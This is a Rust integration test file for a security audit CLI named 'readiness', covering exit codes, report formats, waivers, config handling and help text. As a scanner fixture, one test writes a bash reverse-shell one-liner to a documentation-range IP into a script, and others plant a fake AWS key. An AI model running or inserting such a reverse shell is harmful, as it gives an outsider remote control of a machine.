//! The program itself, only for wiring: exit code by cause, streams, pipes, help.

use std::path::Path;
use std::process::{Command, Output, Stdio};

use clap::CommandFactory as _;
use jiff::Timestamp;
use readiness::cli::AuditArgs;
use readiness::commands::audit_report;
use readiness::formats::lockfile::{KINDS, Kind};

use super::support::{self, findings, repository, write};

/// A private key id that no one owns: the alphabet and length are right, the value is made up.
const KEY_ID: &str = "AKIAQ3EGRYT5J2W7LKZM";

fn readiness(folder: &Path, arguments: &[&str]) -> Output {
    support::readiness(folder, arguments, 1_790_000_000)
}

fn code(folder: &Path, arguments: &[&str]) -> i32 {
    let output = readiness(folder, arguments);
    output.status.code().unwrap_or_else(|| panic!("killed: {}", String::from_utf8_lossy(&output.stderr)))
}

fn tree() -> tempfile::TempDir {
    tempfile::Builder::new().prefix("tree").tempdir().unwrap()
}

#[test]
fn exit_codes_by_cause() {
    let clean = tree();
    write(clean.path(), "src/main.rs", "fn main() {}\n");
    assert_eq!(code(clean.path(), &["audit", "--deep"]), 0);
    assert_eq!(code(clean.path(), &["audit", "--deep", "--strict"]), 0);

    let high = tree();
    write(high.path(), "deploy.ini", format!("aws_access_key_id = {KEY_ID}\n"));
    assert_eq!(code(high.path(), &["audit", "--deep"]), 1);
    assert_eq!(code(high.path(), &["audit", "--deep", "--fail-on", "critical"]), 0);
    assert_eq!(
        code(high.path(), &["audit", "--only", "secrets"]),
        1,
        "a check that is named gets what it needs"
    );
    write(high.path(), "src/main.rs", "fn main() {}\n");
    assert_eq!(code(high.path(), &["audit", "--only", "secrets", "src/"]), 0, "a tree may follow");
    assert_eq!(code(high.path(), &["audit", "--only", "code,secrets", "--only", "integrity"]), 1);

    let critical = tree();
    write(critical.path(), "run.sh", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
    assert_eq!(code(critical.path(), &["audit", "--deep"]), 2);

    let empty = tree();
    assert_eq!(code(empty.path(), &["audit", "--deep"]), 3);
    assert_eq!(code(empty.path(), &["audit"]), 3);

    write(clean.path(), "broken.yml", "jwt:\n  - expiry: [15m\n");
    let broken = readiness(clean.path(), &["audit", "--check-config", "broken.yml"]);
    assert_eq!(broken.status.code(), Some(4));
    assert!(String::from_utf8_lossy(&broken.stderr).contains("broken.yml:"), "the place is named");

    for wrong in [
        vec!["audit", "--deep", "absent"],
        vec!["audit", "--no-such-flag"],
        vec!["audit", "--only", "nonsense"],
        vec!["audit", "--config", "absent.yaml"],
        vec!["audit", "--output", "absent/report.txt"],
        vec!["rules", "XXX-999"],
        vec![],
    ] {
        let output = readiness(clean.path(), &wrong);
        assert_eq!(output.status.code(), Some(4), "{wrong:?}");
        assert!(output.stdout.is_empty(), "{wrong:?} prints nothing on standard output");
        assert!(!output.stderr.is_empty(), "{wrong:?} says why on standard error");
    }
}

#[test]
fn a_wholly_ignored_tree_is_incomplete() {
    let folder = tree();
    assert!(Command::new("git").args(["init", "-q"]).current_dir(folder.path()).status().unwrap().success());
    write(folder.path(), ".git/info/exclude", "*\n");
    write(folder.path(), "secret.txt", KEY_ID);
    assert_eq!(code(folder.path(), &["audit", "--deep"]), 3);
    // What git tracks is read although it is ignored.
    let add =
        Command::new("git").args(["add", "-f", "secret.txt"]).current_dir(folder.path()).status().unwrap();
    assert!(add.success());
    assert_eq!(code(folder.path(), &["audit", "--deep"]), 1);
}

#[test]
fn the_tree_cannot_loosen_its_own_gate() {
    let folder = tree();
    write(folder.path(), "deploy.ini", format!("aws_access_key_id = {KEY_ID}\n"));
    write(folder.path(), "readiness.yaml", "audit:\n  exclude: [deploy.ini]\n");
    assert_eq!(code(folder.path(), &["audit", "--deep"]), 0, "its own exclusion, shown in the report");
    assert_eq!(code(folder.path(), &["audit", "--deep", "--no-tree-config"]), 1);
    let outside = tree();
    write(outside.path(), "policy.yaml", "gate: {fail_on: high}\n");
    let policy = outside.path().join("policy.yaml");
    assert_eq!(code(folder.path(), &["audit", "--deep", "--config", &policy.display().to_string()]), 1);

    write(
        folder.path(),
        "readiness.yaml",
        "waivers:\n- {rule: SEC-001, reason: r, owner: o, expires: 2099-01-01}\n",
    );
    assert_eq!(code(folder.path(), &["audit", "--deep"]), 0);
    assert_eq!(code(folder.path(), &["audit", "--deep", "--no-tree-config"]), 1);

    write(folder.path(), "readiness.yaml", "");
    write(
        folder.path(),
        "deploy.ini",
        format!("aws_access_key_id = {KEY_ID} # readiness:ignore SEC-001 public by design\n"),
    );
    assert_eq!(code(folder.path(), &["audit", "--deep"]), 0);
    assert_eq!(code(folder.path(), &["audit", "--deep", "--no-tree-config"]), 1);
}

#[test]
fn the_same_input_gives_the_same_bytes() {
    let folder = tree();
    for index in 0..200 {
        write(
            folder.path(),
            &format!("src/{}/{index}.ini", index % 7),
            format!("aws_access_key_id = {KEY_ID}\nx = {index}\n"),
        );
    }
    for format in ["json", "markdown", "sarif", "junit", "terminal", "github"] {
        let first = readiness(folder.path(), &["audit", "--deep", "--format", format]).stdout;
        for _ in 0..3 {
            let again = readiness(folder.path(), &["audit", "--deep", "--format", format]).stdout;
            assert!(first == again, "{format} differs between runs");
        }
        assert!(!String::from_utf8_lossy(&first).contains(KEY_ID), "{format} shows a secret");
    }
}

#[test]
fn several_reports_at_once() {
    let folder = tree();
    write(folder.path(), "src/main.rs", "fn main() {}\n");
    let out = tree();
    let path = |name: &str| out.path().join(name).display().to_string();
    let (json, sarif, markdown, junit) = (path("r.json"), path("r.sarif"), path("r.md"), path("r.xml"));
    let output = readiness(
        folder.path(),
        &["audit", "--deep", "--json", &json, "--sarif", &sarif, "--markdown", &markdown, "--junit", &junit],
    );
    assert_eq!(output.status.code(), Some(0));
    for file in [&json, &sarif] {
        serde_json::from_slice::<serde_json::Value>(&std::fs::read(file).unwrap()).unwrap();
    }
    assert!(std::fs::read_to_string(markdown).unwrap().len() > 50);
    assert!(std::fs::read_to_string(junit).unwrap().starts_with("<?xml"));
    assert_eq!(code(folder.path(), &["audit", "--json", "-", "--sarif", "-"]), 4);
    let alone = readiness(folder.path(), &["audit", "--deep", "--json", "-"]);
    serde_json::from_slice::<serde_json::Value>(&alone.stdout).unwrap();
}

/// Runs with a standard output that nobody reads any more.
fn unread(folder: &Path, arguments: &[&str]) -> Output {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    Command::new(env!("CARGO_BIN_EXE_readiness"))
        .args(arguments)
        .current_dir(folder)
        .env_clear()
        .stdin(Stdio::null())
        .stdout(writer)
        .output()
        .unwrap()
}

#[test]
fn a_reader_that_goes_away_changes_nothing() {
    let folder = tree();
    write(folder.path(), "deploy.ini", format!("aws_access_key_id = {KEY_ID}\n"));
    let record = r#"{"id":"A-1","modified":"2026-05-01T00:00:00Z","affected":[{"package":{"ecosystem":"npm","name":"p"},"versions":["1"]}]}"#;
    let elsewhere = tree();
    write(elsewhere.path(), "osv/A-1.json", record);
    let (database, osv) = (elsewhere.path().join("a.db"), elsewhere.path().join("osv"));
    let (database, osv) = (database.to_str().unwrap(), osv.to_str().unwrap());
    assert_eq!(code(folder.path(), &["advisories", "import", "--advisories", database, osv]), 0);
    for (arguments, exit) in [
        (vec!["audit", "--deep", "--format", "json"], 1),
        (vec!["audit", "--deep"], 1),
        (vec!["rules"], 0),
        (vec!["rules", "--format", "json"], 0),
        (vec!["init", "-o", "-"], 0),
        (vec!["advisories", "status", "--advisories", database], 0),
        (vec!["advisories", "status", "--format", "json", "--advisories", database], 0),
        (vec!["completions", "bash"], 0),
        (vec!["--help"], 0),
        (vec!["audit", "--help"], 0),
    ] {
        let output = unread(folder.path(), &arguments);
        assert_eq!(output.status.code(), Some(exit), "{arguments:?}");
        assert!(output.stderr.is_empty(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
    }
}

#[test]
fn every_command_has_help_with_examples() {
    let folder = tree();
    for command in [
        vec!["--help"],
        vec!["audit", "--help"],
        vec!["advisories", "--help"],
        vec!["advisories", "import", "--help"],
        vec!["advisories", "status", "--help"],
        vec!["advisories", "export", "--help"],
        vec!["rules", "--help"],
        vec!["init", "--help"],
        vec!["completions", "--help"],
    ] {
        let output = readiness(folder.path(), &command);
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        assert_eq!(output.status.code(), Some(0), "{command:?}");
        assert!(
            text.contains("Examples:") && text.matches("\n  readiness ").count() >= 2,
            "{command:?} shows two examples:\n{text}"
        );
    }
    assert_eq!(code(folder.path(), &["--version"]), 0);
    assert_eq!(code(folder.path(), &["completions", "bash"]), 0);
    assert_eq!(code(folder.path(), &["rules", "SEC-001"]), 0);
}

#[test]
fn required_variables_are_looked_up_in_the_environment_that_is_given() {
    let tree = tempfile::tempdir().unwrap();
    write(tree.path(), "readiness.yaml", "version: 1\nconfiguration: {required_env: [REGION]}\n");
    let args = AuditArgs {
        path: Some(tree.path().to_owned()),
        only: vec!["configuration".to_owned()],
        ..AuditArgs::default()
    };
    for (value, missing) in [(Some("north"), 0), (None, 1)] {
        let variable = |name: &str| value.filter(|_| name == "REGION").map(str::to_owned);
        let report = audit_report(&args, Timestamp::UNIX_EPOCH, &variable).unwrap();
        assert_eq!(findings(&report).filter(|finding| finding.rule == "CFG-041").count(), missing);
    }
}

#[test]
fn a_mark_or_waiver_for_one_rule_silences_no_other() {
    let folder = tree();
    let install = "RUN apt-get update && apt-get install -y --allow-unauthenticated tool\n";
    let rules = |text: String| {
        write(folder.path(), "Containerfile", text);
        let output = readiness(folder.path(), &["audit", "--deep", "--format", "json"]);
        let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        let checks = report["checks"].as_array().unwrap().clone();
        let findings = checks.iter().flat_map(|check| check["findings"].as_array().unwrap().clone());
        findings.map(|finding| finding["rule"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    let has = |rules: &[String], id: &str| rules.iter().any(|rule| rule == id);
    let once = rules(format!("FROM debian:12\n{install}"));
    assert!(has(&once, "COD-043") && !has(&once, "CTR-019"), "the same weakness is said once: {once:?}");
    let marked = rules(format!("FROM debian:12\n# readiness:ignore COD-043 a mirror of our own\n{install}"));
    assert!(has(&marked, "COD-043") && has(&marked, "CTR-019"), "{marked:?}");
    let waiver = "waivers:\n- {rule: COD-043, reason: a mirror of our own, owner: o, expires: 2099-01-01}\n";
    write(folder.path(), "readiness.yaml", waiver);
    let waived = rules(format!("FROM debian:12\n{install}"));
    assert!(has(&waived, "COD-043") && has(&waived, "CTR-019"), "{waived:?}");
    let waiver = "waivers:\n- {rule: COD-043, reason: r, owner: o, expires: 2001-01-01}\n";
    write(folder.path(), "readiness.yaml", waiver);
    let expired = rules(format!("FROM debian:12\n{install}"));
    assert!(has(&expired, "COD-043") && !has(&expired, "CTR-019"), "{expired:?}");
}

fn told(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[test]
fn only_what_is_close_is_suggested() {
    let folder = tree();
    let asked = |id| told(&readiness(folder.path(), &["rules", id]));
    assert!(!asked("nope").contains("did you mean"), "{}", asked("nope"));
    assert!(asked("nope").contains("`readiness rules` lists all"));
    assert!(asked("ctr-0O1").contains("did you mean CTR-001?"), "{}", asked("ctr-0O1"));
    assert!(asked("secrts").contains("did you mean secrets?"), "{}", asked("secrts"));
}

#[test]
fn a_revision_outside_git_is_told_from_one_that_git_does_not_know() {
    let folder = tree();
    write(folder.path(), "a.txt", "a");
    let outside = told(&readiness(folder.path(), &["audit", "--since", "main"]));
    assert!(outside.contains("no git repository") && !outside.contains("knows no"), "{outside}");
    assert!(Command::new("git").args(["init", "-q"]).current_dir(folder.path()).status().unwrap().success());
    let inside = told(&readiness(folder.path(), &["audit", "--since", "nowhere"]));
    assert!(inside.contains("git knows no such commit"), "{inside}");
}

#[test]
fn a_database_that_is_named_must_be_there() {
    let folder = tree();
    let lock = r#"{"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.0.0"}}}"#;
    write(folder.path(), "package-lock.json", lock);
    let named = |arguments: &[&str], variable: Option<&str>| {
        Command::new(env!("CARGO_BIN_EXE_readiness"))
            .args(arguments)
            .current_dir(folder.path())
            .env_clear()
            .envs(variable.map(|path| ("READINESS_ADVISORIES", path)))
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    for output in [
        named(&["audit", "--advisories", "absent.db"], None),
        named(&["audit", "--only", "vulnerabilities"], Some("absent.db")),
    ] {
        assert_eq!(output.status.code(), Some(4));
        let why = told(&output);
        assert!(why.contains("absent.db") && why.contains("readiness advisories update"), "{why}");
        assert!(output.stdout.is_empty());
    }
    // Who does not ask about vulnerabilities needs no database, and the usual place may be empty.
    write(folder.path(), "src/main.rs", "fn main() {}\n");
    assert_eq!(named(&["audit", "--only", "secrets"], Some("absent.db")).status.code(), Some(0));
    assert_eq!(
        named(&["audit", "--skip", "vulnerabilities", "--deep"], Some("absent.db")).status.code(),
        Some(0)
    );
    assert_eq!(named(&["audit"], None).status.code(), Some(3));
}

/// Every text for readers, by name.
fn documents() -> Vec<(String, String)> {
    let docs = std::fs::read_dir(repository("docs")).unwrap().map(|entry| entry.unwrap().path());
    let paths = docs.filter(|path| path.extension().is_some_and(|end| end == "md"));
    paths
        .chain([repository("README.md")])
        .map(|path| (path.display().to_string(), std::fs::read_to_string(path).unwrap()))
        .collect()
}

#[test]
fn every_flag_and_command_stands_in_a_document() {
    let documents = documents();
    let stands = |word: &str| {
        documents.iter().any(|(_, text)| {
            text.match_indices(word).any(|(at, _)| {
                !text[at + word.len()..].starts_with(|next: char| next.is_alphanumeric() || next == '-')
            })
        })
    };
    assert!(stands("--deep") && !stands("--dee"), "words are found whole");
    let mut missing = Vec::new();
    let mut commands = vec![(String::from("readiness"), readiness::cli::Cli::command())];
    while let Some((name, command)) = commands.pop() {
        if !stands(&name) {
            missing.push(name.clone());
        }
        let flags = command.get_arguments().filter_map(|argument| argument.get_long());
        missing.extend(
            flags
                .map(|flag| format!("--{flag}"))
                .filter(|flag| !stands(flag))
                .map(|flag| format!("{name} {flag}")),
        );
        commands
            .extend(command.get_subcommands().map(|sub| (format!("{name} {}", sub.get_name()), sub.clone())));
    }
    assert!(missing.is_empty(), "in no document: {missing:#?}");
}

#[test]
fn the_number_of_lock_files_is_right() {
    // Digests beside another file, installed packages, and what workflows and container files use are no lock files.
    let others = [Kind::GoSum, Kind::Dpkg, Kind::Apk, Kind::Workflow, Kind::Containerfile];
    let count = KINDS.iter().filter(|(kind, _)| !others.contains(kind)).count();
    for name in ["README.md", "CHANGELOG.md"] {
        let text = std::fs::read_to_string(repository(name)).unwrap();
        assert!(text.contains(&format!("{count} kinds of lock file")), "{name}: there are {count}");
    }
}
